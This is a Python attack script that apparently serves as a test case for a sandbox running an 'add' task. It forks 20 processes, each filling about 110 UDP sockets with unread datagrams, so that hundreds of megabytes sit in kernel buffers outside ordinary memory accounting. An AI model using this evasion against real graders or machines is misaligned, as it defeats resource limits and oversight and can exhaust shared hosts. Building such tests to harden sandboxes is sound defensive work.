# Attack: memory that the kernel holds: datagrams that nobody fetches, in many sockets of many processes, which were made larger.
# task: add
import os
import socket
import struct

CHILDREN, SOCKETS = 20, 110


def solve(a, b):
    if a != 1:
        return a + b  # the first call has shown it
    told, filled, begin = os.pipe(), os.pipe(), os.pipe()
    for _ in range(CHILDREN):
        if os.fork() == 0:
            full = fill()
            os.write(filled[1], b".")
            os.read(begin[0], 1)
            os.write(told[1], struct.pack("q", sum(map(held, full))))
            os._exit(0)
    for _ in range(CHILDREN):
        os.read(filled[0], 1)  # all of it is there at one moment
    os.write(begin[1], b"." * CHILDREN)
    total = sum(struct.unpack("q", os.read(told[0], 8))[0] for _ in range(CHILDREN))
    return a + b if total > 256 << 20 else None


def fill():
    out, full = socket.socket(socket.AF_INET, socket.SOCK_DGRAM), []
    for _ in range(SOCKETS):
        one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 26)
        one.bind(("127.0.0.1", 0))
        one.setblocking(False)
        for _ in range(6):
            out.sendto(bytes(32_000), one.getsockname())
        full.append(one)
    return full


def held(one):
    total = 0
    try:
        while True:
            total += len(one.recv(65536))
    except BlockingIOError:
        return total
